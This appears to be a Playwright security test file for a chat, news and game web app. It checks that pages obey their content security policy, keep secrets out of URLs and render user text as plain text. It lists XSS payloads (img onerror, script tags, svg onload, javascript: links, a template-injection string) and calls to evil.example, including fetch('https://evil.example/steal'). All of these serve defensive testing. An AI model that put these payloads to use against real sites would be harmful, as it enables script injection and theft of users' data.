// Pages run no code but the app's, and show text of people only as text.

import type { Page } from "@playwright/test";
import { Chat } from "./chat";
import { everywhere, expect, test } from "./fixtures";

declare global {
  interface Window {
    /** Directives that were violated. */
    violations: string[];
    /** Set by code that must not run. */
    ran?: string;
  }
}

/** Records violations of the policy on every page that is loaded from now on. */
async function watch(page: Page): Promise<void> {
  await page.context().addInitScript(() => {
    window.violations = [];
    document.addEventListener("securitypolicyviolation", (event) => {
      window.violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`);
    });
  });
  await page.reload();
}

const violations = (page: Page) => page.evaluate(() => window.violations);
const ran = (page: Page) => page.evaluate(() => window.ran);

/** Hostile texts. Each one sets window.ran if it runs as code. */
const hostile = [
  `<img src=x onerror="window.ran='img'">`,
  `<script>window.ran='script'</script>`,
  `"><svg onload=window.ran='svg'>`,
  `javascript:window.ran='url'`,
  `{{constructor.constructor("window.ran='template'")()}}`,
  `\u202Egnp.exe\u202C \u2066isolated`,
  "w".repeat(180),
];

/** Checks that no text became an element or a link, or is wider than the page. */
async function expectText(page: Page): Promise<void> {
  const found = await page.evaluate(() => ({
    elements: [
      ...document.querySelectorAll(
        "img, iframe, object, embed, script:not([src]), svg[onload], a[href^='javascript:']",
      ),
    ].map((e) => e.outerHTML),
    sideways: document.documentElement.scrollWidth - document.documentElement.clientWidth,
    ran: window.ran,
  }));
  expect(found).toEqual({ elements: [], sideways: 0, ran: undefined });
}

test("no page violates its own policy, or puts secrets into URLs", everywhere, async ({ server, visit }) => {
  const page = await visit(`${server.url}/chat/general`);
  const addresses: string[] = [];
  page.on("request", (request) => addresses.push(request.url()));
  page.on("websocket", (socket) => addresses.push(socket.url()));
  await watch(page);
  const chat = await new Chat(page).join("Ada");
  await chat.said("Hello");
  for (const path of ["/chat/general", "/game/arena", "/news", "/nowhere", "/"]) {
    await page.goto(server.url + path);
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
    if (path !== "/nowhere")
      await expect(page.getByRole("status", { name: /^Connection/ }).first()).toHaveText("Connected");
    expect(await violations(page), path).toEqual([]);
  }
  expect(addresses.length).toBeGreaterThan(10);
  // Secrets have at least 128 random bits.
  expect(addresses.filter((address) => /[\w-]{22}/.test(address.replace(server.url, "")))).toEqual([]);
});

test("injected code does not run", everywhere, async ({ server, browser }) => {
  const context = await browser.newContext(); // not visit, which fails on violations
  const page = await context.newPage();
  await page.goto(server.url);
  await watch(page);
  await page.evaluate(() => {
    const script = document.createElement("script");
    try {
      script.textContent = "window.ran = 'inline script'";
    } catch {
      // Trusted types already forbid this.
      script.append(document.createTextNode("window.ran = 'inline script'"));
    }
    document.body.append(script);
    for (const src of ["data:text/javascript,window.ran='data'", "https://evil.example/x.js"]) {
      const from = document.createElement("script");
      try {
        from.src = src;
      } catch {
        // The same.
      }
      document.body.append(from);
    }
    const button = document.createElement("button");
    try {
      button.setAttribute("onclick", "window.ran = 'handler'");
    } catch {
      // The same.
    }
    document.body.append(button);
    button.click();
    const link = document.createElement("a");
    link.href = "javascript:window.ran = 'link'";
    document.body.append(link);
    link.click();
    try {
      document.body.insertAdjacentHTML("beforeend", `<img src=x onerror="window.ran='img'">`);
    } catch {
      // The same.
    }
    const style = document.createElement("style");
    style.textContent = "body { background: url(https://evil.example/pixel) }";
    document.head.append(style);
  });
  const refused = await page.evaluate(async () => {
    const names: string[] = [];
    await fetch("https://evil.example/steal").catch(() => names.push("fetch"));
    await new Promise((resolve) => setTimeout(resolve)); // handlers of the clicks have run
    try {
      // Not while the debugger is on the stack, which may use eval.
      // oxlint-disable-next-line no-eval -- it must fail
      (0, eval)("window.ran = 'eval'");
    } catch {
      names.push("eval");
    }
    return names;
  });
  expect(refused).toEqual(["fetch", "eval"]);
  expect(await ran(page)).toBeUndefined();
  const offended = (await violations(page)).map((text) => text.split(" ")[0]);
  expect(offended).toEqual(expect.arrayContaining(["style-src-elem", "connect-src"]));
  // In browsers with trusted types, those refuse a script before script-src is checked.
  expect(
    offended.filter((name) => /^(require-trusted-types-for|script-src)/.test(name!)).length,
  ).toBeGreaterThanOrEqual(5);
  await context.close();
});

test("no bundle evaluates text as code", async ({ server, request }) => {
  const html = await (await request.get(server.url)).text();
  const scripts = [...html.matchAll(/<script[^>]* src="([^"]+)"/g)].map(([, src]) => src!);
  expect(scripts.length).toBeGreaterThanOrEqual(2);
  for (const src of [...scripts, "/lib/client.js", "/lib/http.js", "/lib/react.js"]) {
    const response = await request.get(new URL(src, server.url).href);
    expect(response.status(), src).toBe(200);
    expect(await response.text(), src).not.toMatch(/\beval\(|new Function\b|document\.write\b/);
  }
});

test("the chat shows text as text", async ({ server, visit }) => {
  const name = hostile[0]!.slice(0, 32);
  const mallory = await new Chat(await visit(`${server.url}/chat/general`)).join(name);
  const ada = await new Chat(await visit(`${server.url}/chat/general`)).join("Ada");
  await watch(ada.page);
  await ada.connected();
  for (const text of hostile) await mallory.said(text);
  await expect(ada.texts).toHaveText(hostile);
  await expect(ada.people.filter({ hasText: name })).toHaveCount(1);
  await expectText(ada.page);
  expect(await violations(ada.page)).toEqual([]);
});

test("the news and the game show text as text", async ({ server, visit }) => {
  const page = await visit(`${server.url}/news`);
  await watch(page);
  await page.getByRole("textbox", { name: "Category" }).fill(hostile[0]!);
  for (const text of hostile) {
    await page.getByRole("textbox", { name: "Article" }).fill(text);
    await page.getByRole("button", { name: "Publish" }).click();
    await expect(
      page
        .getByRole("region", { name: "You", exact: true })
        .getByRole("article")
        .filter({ hasText: text.slice(0, 20) })
        .first(),
    ).toBeVisible();
  }
  await expectText(page);
  expect(await violations(page)).toEqual([]);

  const game = await visit(`${server.url}/game/arena`, { session: { "troupe.player": hostile[0] } });
  await watch(game);
  await expect(game.getByRole("region", { name: "Players" }).getByRole("listitem")).toHaveCount(1);
  await expectText(game);
  expect(await violations(game)).toEqual([]);
});

test("a room's name in the URL is shown as text", async ({ server, visit }) => {
  for (const name of hostile) {
    const page = await visit(`${server.url}/chat/${encodeURIComponent(name.slice(0, 60))}`);
    await watch(page);
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
    await expectText(page);
    expect(await violations(page), name).toEqual([]);
    await page.close();
  }
  const page = await visit(
    `${server.url}/nowhere/${encodeURIComponent(hostile[0]!)}?next=${encodeURIComponent(hostile[3]!)}#${encodeURIComponent(hostile[2]!)}`,
  );
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  await expectText(page);
});
